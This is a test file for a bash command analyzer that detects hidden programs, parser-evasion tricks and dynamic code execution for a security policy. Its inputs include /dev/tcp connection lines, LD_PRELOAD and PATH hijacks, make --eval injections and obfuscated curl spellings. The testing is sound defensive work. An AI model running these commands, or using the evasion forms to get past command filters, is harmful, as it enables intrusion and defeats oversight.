    expect(facts('x=1 ! q').programs).toEqual(['!'])
    expect(facts('x= }').programs).toEqual(['}'])
  })
})

describe('what is refused', () => {
  it.each([
    ['an unterminated quote', 'echo "abc'],
    ['an unclosed substitution', 'echo $(curl x'],
    ['a missing command after &&', 'curl x &&'],
    ['an if without fi', 'if true; then curl x'],
    ['an unclosed backtick in a heredoc', 'cat <<EOF\n`curl x\nEOF'],
    ['a word bash rejects after a compound statement', '(true) > /dev/null curl x'],
    ['<> (tree-sitter-bash does not parse it)', 'exec 3<>/dev/tcp/10.0.0.1/80'],
    ['<> with a computed target', 'exec 3<>$D/tcp/10.0.0.1/80'],
    ['<> with a descriptor variable', 'exec {fd}<>/dev/tcp/10.0.0.1/80'],
    ['vertical tab: tree-sitter starts a comment bash does not see', 'x\v#\v;curl y'],
    ['a carriage return before a newline', 'x \\\r\ncurl y'],
    ['an escaped tab', 'echo a\\\tb'],
    ['a NUL', 'curl\0x'],
    // tree-sitter-bash continues a pipeline across a newline: the next line's program becomes an argument
    ['a newline tree-sitter reads as a space', 'x | y | z\ncurl || w'],
    ['a newline tree-sitter glues into a word', 'a | a\n\\curl'],
  ])('%s', (_title, command) => {
    const a = analyzeCommand(command)
    expect(a.ok).toBe(false)
    if (!a.ok) expect(a.error).toMatch(/could not be parsed|read differently|NUL|splits where bash does not|leaves out of its tree/)
  })

  // found by the bash oracle (programs-bash.test.ts): each is a line where tree-sitter-bash's tree
  // and bash disagree, and the disagreement hid a program or a /dev/tcp target
  it.each([
    // the tree ends `$'\\'` one quote later than bash, so the two are out of step on every quote after it
    ['`$\'\\\\\'` read as an escaped quote: bash runs curl, the tree holds one echo', "echo $'\\\\' ; curl x ; echo '\\'", 'read differently'],
    ["a redirection target whose second piece starts with an escape: '/dev/'\\tcp is /dev/tcp for bash", "exec 3> '/dev/'\\tcp/10.0.0.1/80", 'splits where bash does not'],
    ['a here-string followed by an escape: one word for bash', "cat <<<$'x'\\~ q", 'splits where bash does not'],
    ['a word the tree leaves out (`-` before a brace word)', 'x - {1..2}q', 'leaves out of its tree'],
    ['`!` glued to a word: bash runs `!x`, the tree negates x', '!"ls" x', 'splits where bash does not'],
    ['`!` glued to a brace expansion', '!{3..1}', 'splits where bash does not'],
    ['`[` glued to a word: a glob for bash, a test in the tree', '[q]', 'splits where bash does not'],
    ['an assignment glued to a word: one word for bash', 'x=$a\\# curl', 'splits where bash does not'],
    ['an assignment to a name bash does not take: a glob it runs', '*x=curl', 'splits where bash does not'],
    ['an assignment in declare glued to a word', 'export a=$b\\#c', 'splits where bash does not'],
    ['a word the tree lexed across a blank (`} }` after a here-string): bash runs `}`', '<<< } } curl', 'leaves out of its tree'],
    ["an operator token lexed from other text: `\\?<<'E'` is a heredoc in the tree, a word for bash", "{1..2}\\?<<'E'\n$(curl x)q", 'leaves out of its tree'],
  ])('%s', (_title, command, reason) => {
    const a = analyzeCommand(command)
    expect(a.ok ? a.facts : a.error, JSON.stringify(command)).toMatch(new RegExp(reason))
  })

  it('the parse error says so', () => {
    expect(analyzeCommand('echo "abc')).toEqual({ ok: false, error: 'the command line could not be parsed' })
  })

  it('command lines over 64 KiB, and scripts nested deeper than 8', () => {
    expect(analyzeCommand(`echo ${'a'.repeat(64 * 1024)}`)).toMatchObject({ ok: false, error: expect.stringMatching(/longer than 65536 bytes/) })
    expect(analyzeCommand(`echo ${'é'.repeat(33 * 1024)}`).ok).toBe(false)
    expect(analyzeCommand(`echo ${'a'.repeat(60 * 1024)}`).ok).toBe(true)
    let nested = 'curl x'
    for (let depth = 1; depth <= 9; depth++) {
      nested = `sh -c ${q(nested)}`
      const a = analyzeCommand(nested)
      if (depth <= 8) expect(a.ok && a.facts.programs, `depth ${depth}`).toEqual(['sh', 'curl'])
      else expect(a).toMatchObject({ ok: false, error: expect.stringMatching(/deeper/) })
    }
    expect(analyzeCommand(`echo ${'$('.repeat(5000)}x${')'.repeat(5000)}`).ok).toBe(false)
    expect(analyzeCommand(`eval eval{,}{,}{,}{,}{,}{,} curl`).ok).toBe(false)
  })
})

/** Words that cannot change the shape of a command line: no reserved words. */
const RESERVED = new Set(['if', 'then', 'else', 'elif', 'fi', 'case', 'esac', 'for', 'select', 'while', 'until', 'do', 'done', 'in', 'function', 'time', 'coproc'])
const simpleWord = fc.stringMatching(/^[a-z][a-z0-9._-]{0,7}$/).filter((w) => !RESERVED.has(w))
const argument = fc.oneof(
  simpleWord,
  fc.stringMatching(/^-[a-zA-Z]{1,3}$/),
  fc.stringMatching(/^\/[a-z]{1,6}(\/[a-z]{1,6}){0,2}$/),
  fc.constantFrom('"a b"', "'c d'", '$x', '"$y"', '$(date)', '>/dev/null', '2>&1', '<in', '*.txt', '{a,b}', 'A=1'),
)
const stage = fc.tuple(fc.constantFrom('', 'A=1 ', '! '), simpleWord, fc.array(argument, { maxLength: 4 })).map(([prefix, name, args]) => `${prefix}${[name, ...args].join(' ')}`)
/** Ways of writing `curl` that bash reads as `curl`. */
const spelling = fc.constantFrom('curl', '\\curl', "'curl'", '"curl"', 'c"ur"l', "$'\\x63url'", "$'\\143url'", '/usr/bin/curl', 'c{u,}rl', 'cu\\\nrl')
const wrapped = fc.constantFrom('', 'sudo ', 'env A=1 ', 'nohup ', 'timeout 5 ', 'nice -n 5 ', 'xargs ', 'exec ', 'command ', 'sudo -u x env nohup ', 'B=2 ', '>/dev/null ')
/** Places a command can sit in, inside other commands or handed to other shells. */
const context = fc.constantFrom<(c: string) => string>(
  (c) => c,
  (c) => `(${c})`,
  (c) => `{ ${c}; }`,
  (c) => `echo "$(${c})"`,
  (c) => `echo \`${c}\``,
  (c) => `cat <(${c})`,
  (c) => `sh -c ${q(c)}`,
  (c) => `bash -c "${c.replace(/["\\$`]/g, '\\$&')}"`,
  (c) => `eval ${q(c)}`,
  (c) => `if ${c}; then :; fi`,
  (c) => `while ${c}; do :; done`,
  (c) => `for i in a; do ${c}; done`,
  (c) => `case x in x) ${c};; esac`,
  (c) => `f() { ${c}; }`,
  (c) => `x=$(${c})`,
  (c) => `${c} > /tmp/o`,
  (c) => `cat <<EOF\n$(${c})\nEOF`,
  (c) => `${c} <<'E'\nq\nE`,
)

/** A random list of simple commands joined by `separators`, with a `curl` command written, wrapped and placed at random among them. */
const commandLine = (separators: readonly string[]) =>
  fc
    .tuple(fc.array(stage, { minLength: 1, maxLength: 6 }), fc.array(fc.constantFrom(...separators), { minLength: 6, maxLength: 6 }), fc.nat(), spelling, wrapped, context, fc.array(argument, { maxLength: 3 }))
    .map(([stages, joins, at, spelled, wrapper, where, args]) => {
      const parts = [...stages]
      parts.splice(at % (parts.length + 1), 0, where(`${wrapper}${spelled} ${args.join(' ')}`.trim()))
      return { text: parts.map((p, i) => (i === 0 ? p : `${joins[i - 1] ?? ' | '}${p}`)).join(''), stages }
    })

describe('properties', () => {
  it('arbitrary text never throws: the analysis is ok or refused', () => {
    const tokens = fc.constantFrom('curl', 'sh', '-c', 'sudo', 'env', 'eval', 'x', '"', "'", '`', '$(', ')', '(', '{', '}', '${', '$', '\\', '\n', '\\\n', ';', '|', '&', '&&', '<', '>', '<<', '<<<', 'EOF', '#', '*', '?', '[', ']', ',', '=', "$'", '\\x63', ' ', '\t', '\r', '\v', 'xargs', '-exec', '{}', 'bash', '/dev/tcp/1/2', 'coproc', 'case', 'esac', 'if', 'fi', '((', '))', '$((')
    const soup = fc.array(tokens, { maxLength: 40 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 100 }), soup), (text) => {
        const a = analyzeCommand(text)
        if (a.ok) {
          expect(Array.isArray(a.facts.programs) && Array.isArray(a.facts.commands) && Array.isArray(a.facts.redirects)).toBe(true)
        } else {
          expect(a.error.length).toBeGreaterThan(0)
        }
      }),
      { numRuns: 3000 },
    )
  })

  it('a program put anywhere in a random one-line pipeline or list of simple words, however written and wrapped, is found', () => {
    fc.assert(
      fc.property(commandLine([' | ', ' |& ', ' && ', ' || ', '; ', ' & ']), ({ text, stages }) => {
        const f = facts(text)
        expect(f.programs).toContain('curl')
        for (const s of stages) expect(f.programs).toContain(s.replace(/^(A=1 |! )/, '').split(' ')[0])
      }),
      { numRuns: 2000 },
    )
  })

  it('across lines too, the program is found or the command line is refused', () => {
    fc.assert(
      fc.property(commandLine([' | ', ' && ', '; ', '\n', ' |\n', ' &&\n', ' ||\n', '\n\n', ' # comment\n']), ({ text }) => {
        const a = analyzeCommand(text)
        if (a.ok) expect(a.facts.programs).toContain('curl')
        else expect(a.error).toMatch(/^the command line (could not be parsed|has a word the parser splits where bash does not|has text the parser leaves out of its tree, where bash reads it)$/)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('what a docs/ssh.md-style policy must see (issue: exec analysis a policy can trust)', () => {
  it.each([
    ['make -f - build', 'make -f'],
    ['make -f /dev/stdin build', 'make -f'],
    ['make --eval=\'x:=$(shell id)\' build', 'make --eval'],
    ['make --ev=x build', 'make --ev'],
    ['make -C /tmp/elsewhere build', 'make -C'],
    ['make -kf evil.mk build', 'make -f'],
    ["make CC='sh -c id' build", 'make CC='],
    ['make build MAKEFLAGS=--eval=x', 'make MAKEFLAGS='],
    ['PATH=~/bin make build', 'PATH= changes what runs'],
    ['LD_PRELOAD=/tmp/x.so make build', 'LD_PRELOAD= changes what runs'],
    ['MAKEFLAGS=--eval=x make build', 'MAKEFLAGS= changes what runs'],
    ['export PATH=/tmp:$PATH; make build', 'PATH= changes what runs'],
    ['env GCONV_PATH=/tmp make build', 'GCONV_PATH= changes what runs'],
    ['sudo PYTHONSTARTUP=/tmp/x python3 x', 'PYTHONSTARTUP= changes what runs'],
    ['git -C /tmp/other status', 'git -C'],
    ['node -e 1', 'node runs code from its arguments or standard input'],
    ["awk '{print}' f", 'awk runs code from its arguments or standard input'],
    ['make $TARGET', 'make is given an argument computed at run time'],
    // an interpreter without arguments reads code from stdin; one-dash long options; bundles
    ['python3', 'python3 runs code from its arguments or standard input'],
    ['node --version x.js', 'node runs code from its arguments or standard input'],
    ['go build -toolexec=/tmp/x ./...', 'go -toolexec'],
    ['go -C /tmp/other build', 'go -C'],
    ['openssl -engine /tmp/e.so version', 'openssl -engine'],
    ['jq -rf prog.jq data.json', 'jq -f'],
    ['jq --from-file prog.jq', 'jq --from-file'],
  ])('%s is dynamic (%s)', (command, reason) => {
    const f = facts(command)
    expect(f.dynamic).toBe(true)
    expect(f.dynamicReasons).toContain(reason)
  })

  it.each([
    ["make '$(shell id)x=1' build", 'make $(shell id)x='],
    ["make 'CC::=$(shell id)'", 'make CC::='],
    ["make ' CC = $(shell id)'", 'make  CC ='],
    ["make -- 'CC=$(shell id)'", 'make CC='],
    ['make .SHELLFLAGS=-c build', 'make .SHELLFLAGS='],
    ["RM='id;' make clean", 'make takes RM= from its environment'],
    ['LANG=C make build', 'make takes LANG= from its environment'],
    ['make -E x build', 'make -E'],
  ])('make reads code from %s (review findings)', (command, reason) => {
    const f = facts(command)
    expect(f.dynamic).toBe(true)
    expect(f.dynamicReasons).toContain(reason)
  })

  it('words tree-sitter-bash splits or swallows where bash reads one word are refused, never given as argv', () => {
    for (const command of ['make -C$"build"', 'make -fevil$"build"', 'make -f$ build', 'make build -C$', 'make == build', 'make =~ build', 'make $ build', 'env -S$"curl x"', 'make ]]\\#']) {
      const a = analyzeCommand(command)
      expect(a.ok ? a.facts.argv : a.error, command).toMatch(/splits where bash does not|could not be parsed|leaves out of its tree/)
    }
    // a parameter inside a brace token (tree-sitter-bash lexes `$@{1..2}` as one token): refused,
    // or computed (no argv, and as a program name, dynamic)
    const inArgs = analyzeCommand('cat $@{1..2}')
    expect(inArgs.ok ? inArgs.facts.argv : inArgs.error).not.toBeInstanceOf(Array)
    const asName = analyzeCommand('$@{1..2} x')
    expect(asName.ok ? String(asName.facts.dynamic) : asName.error).toMatch(/^true$|leaves out of its tree/)
  })

  it('after --, options end: what follows is an operand (make still reads NAME=value there)', () => {
    for (const command of ['make -- -f build', 'make -- build', 'jq -- -f x', 'jq -- a=b .', 'rsync -av src/ host:dst/', 'cmake --build build']) {
      expect(facts(command).dynamic, command).toBe(false)
    }
    expect(facts("make -- 'CC=x' build").dynamicReasons).toContain('make CC=')
  })

  it('package installers run the packages\' own code: dynamic, except --version', () => {
    for (const command of ['pip install requests', 'pip3 install -r requirements.txt', 'pipx run x', 'uv pip install y', 'poetry install', 'gem install rails', 'bundle exec rake', 'composer install']) {
      expect(facts(command), command).toMatchObject({ dynamic: true, dynamicReasons: [`${command.split(' ')[0]} runs code from its arguments or standard input`] })
    }
    expect(facts('pip --version').dynamic).toBe(false)
  })

  it('programs that run a command in ways the gateway does not read are dynamic (eatmydata curl x reported only eatmydata)', () => {
    for (const command of ['eatmydata curl x', 'chronic nc y', "tmux new-session -d 'curl x'", 'screen -dm wget q', 'socat - EXEC:nc', 'setarch x86_64 curl', 'parallel curl ::: a b', 'xvfb-run ssh h', 'sshpass -p x ssh h', 'fakeroot nc', 'valgrind -q curl', 'entr -r nc', 'rlwrap nc y', 'sqlite3 db .shell']) {
      const f = facts(command)
      expect(f.dynamic, command).toBe(true)
      expect(f.dynamicReasons, command).toEqual([`${command.split(' ')[0]} runs code from its arguments or standard input`])
    }
    expect(facts('tmux -V').dynamic).toBe(false)
    expect(facts('tcpdump -z curl -w f')).toMatchObject({ dynamic: true, dynamicReasons: ['tcpdump -z'] })
    expect(facts('hg --config hooks.pre-log=curl log')).toMatchObject({ dynamic: true, dynamicReasons: ['hg --config'] })
    expect(facts('tcpdump -i eth0').dynamic).toBe(false)
    // wget --use-askpass runs the program it names (seen with wget 1.21 here: it ran touch)
    expect(facts('wget --use-askpass=/usr/bin/curl --user=u http://x')).toMatchObject({ programs: ['wget'], dynamic: true, dynamicReasons: ['wget --use-askpass'] })
    expect(facts('wget -e use_askpass=nc http://x')).toMatchObject({ dynamic: true, dynamicReasons: ['wget -e'] })
    expect(facts('WGET_ASKPASS=/usr/bin/curl wget --user=u http://x')).toMatchObject({ programs: ['curl', '/usr/bin/curl', 'wget'], dynamic: false })
    expect(facts('wget -q -O - http://x').dynamic).toBe(false)
    expect(facts('hg log').dynamic).toBe(false)
  })

  it('plain uses stay static, and inert forms of interpreters run nothing', () => {
    for (const command of ['make build', 'make -j4 test', 'make -k build', 'python3 --version', 'git status', 'LANG=C git status', 'git log --oneline']) {
      expect(facts(command).dynamic, command).toBe(false)
    }
  })

  it('reports prefix and env assignments as env, by name', () => {
    expect(facts('LANG=C TZ=UTC make build').env).toEqual(['LANG', 'TZ'])
    expect(facts('env -i FOO=1 make').env).toEqual(['FOO'])
    expect(facts('make build').env).toEqual([])
  })

  it('keeps the path the caller gave: ~/bin/make is not only make, in programs, commands and argv', () => {
    const f = facts('~/bin/make build')
    expect(f.programs).toEqual(['make', '~/bin/make'])
    expect(f.commands).toEqual(['~/bin/make'])
    expect(f.argv).toEqual(['~/bin/make', 'build'])
    expect(facts('/usr/bin/make build').commands).toEqual(['/usr/bin/make'])
  })

  it('gives argv only for one simple command of literal words', () => {
    expect(facts('make build').argv).toEqual(['make', 'build'])
    expect(facts('make "build"').argv).toEqual(['make', 'build'])
    expect(facts("make 'BUILD'").argv).toEqual(['make', 'BUILD'])
    expect(facts('make build # a comment').argv).toEqual(['make', 'build'])
    for (const command of ['make build; id', 'make build && id', 'make build | tee x', 'make build > /tmp/x', 'make $T', 'make *', 'X=1 make build', 'make build &', 'make $(id)', '(make build)', '{ make build; }', 'make build\nid']) {
      expect(facts(command).argv, JSON.stringify(command)).toBeUndefined()
    }
  })
})
